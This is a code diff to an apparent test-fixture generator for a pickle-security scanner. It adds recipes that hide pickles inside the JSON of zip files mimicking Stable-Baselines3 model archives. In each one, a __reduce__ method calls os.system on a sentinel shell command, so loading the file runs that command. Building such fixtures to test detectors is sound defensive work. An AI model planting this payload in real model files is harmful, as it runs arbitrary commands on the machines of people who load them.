@@ -1,9 +1,12 @@
 """Malicious pickles in containers: compressed, archived, renamed, and under directories that lie."""
 
+import base64
 import bz2
 import gzip
 import io
+import json
 import lzma
+import os
 import pickle
 import struct
 import tarfile
@@ -252,7 +255,33 @@ def recipes() -> Iterator[Recipe]:
             make=make,
         )
     yield from slips()
+    yield from in_words()
     yield from with_libraries()
+
+
+def in_words() -> Iterator[Recipe]:
+    """Pickles in base64 in the JSON of an archive, as Stable-Baselines3 keeps what JSON cannot hold."""
+    for protocol, data in (
+        ("protocol 0", lambda it: pickle.dumps(_Runs(it), 0)),
+        ("protocol 4", lambda it: pickle.dumps(_Runs(it), 4)),
+    ):
+        yield Recipe(
+            id=f"contained/serialized-{protocol.replace(' ', '-')}", family="containers", file="ppo.zip", loader="serialized-way",
+            make=lambda it, data=data: zipped({"data": _serialized(data(it)), "_stable_baselines3_version": b"2.4.0"}),
+        )  # fmt: skip
+
+
+class _Runs:
+    def __init__(self, it: Sentinel) -> None:
+        self.it = it
+
+    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
+        return os.system, (self.it.shell,)
+
+
+def _serialized(data: bytes) -> bytes:
+    entry = {":type:": "<class 'abc.ABCMeta'>", ":serialized:": base64.b64encode(data).decode()}
+    return json.dumps({"policy_class": entry, "verbose": 0}).encode()
 
 
 def with_libraries() -> Iterator[Recipe]:
